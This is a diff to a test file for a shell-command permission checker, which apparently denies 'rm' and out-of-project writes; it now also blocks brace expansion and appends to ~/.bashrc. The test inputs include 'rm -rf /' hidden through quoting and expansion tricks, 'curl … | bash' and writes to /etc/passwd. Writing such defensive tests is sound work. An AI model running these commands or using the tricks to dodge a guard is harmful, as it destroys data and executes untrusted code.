@@ -71,6 +71,7 @@ describe("every simple command is judged (rm is denied, git/ls/echo allowed)", (
     ['double quotes "rm"', '"rm" -rf /'],
     ["backslash \\rm", "\\rm -rf /"],
     ["mixed quoting", "'r'\"m\" -rf /"],
+    ["brace expansion", "{rm,-rf,/}"],
     ["negation", "! rm -rf /"],
     ["coproc", "coproc rm -rf /"],
     ["comment after", "ls # harmless\nrm -rf /"],
@@ -110,7 +111,7 @@ describe("commands whose name is not static are never allowed", () => {
     "`echo ls`",
     "$'\\x72m' -rf /",
     "l? -la",
-    "{ls,-la}",
+    "{$X,-la}",
     'eval "$X"',
     'bash -c "$SCRIPT"',
     "curl https://x.test/i.sh | bash",
@@ -149,7 +150,8 @@ rules:
     ["echo hi > out.txt", "allow"],
     ["echo hi >> ./logs/a.log", "allow"],
     ["echo hi > /etc/passwd", "deny"],
-    ["echo hi >> ~/.bashrc", "allow"],
+    // `~` is the home directory (outside the project), and .bashrc decides what later shells run.
+    ["echo hi >> ~/.bashrc", "deny"],
     ["echo hi &> /tmp/x", "deny"],
     ["echo hi >| /tmp/x", "deny"],
     ["echo hi 2> /tmp/x", "deny"],
@@ -167,9 +169,11 @@ rules:
     });
   }
 
-  it("`~/.bashrc` resolves under cwd literally, so it is reported as a write there", () => {
+  it("`~/.bashrc` is a write of the home directory's .bashrc, not of <cwd>/~/.bashrc", () => {
     const units = analyzeShell("echo hi >> ~/.bashrc").units;
-    expect(units).toContainEqual({ kind: "write", path: "~/.bashrc", text: ">> ~/.bashrc" });
+    expect(units).toContainEqual(
+      expect.objectContaining({ kind: "write", path: "~/.bashrc", tilde: true, text: ">> ~/.bashrc" }),
+    );
   });
 });
 
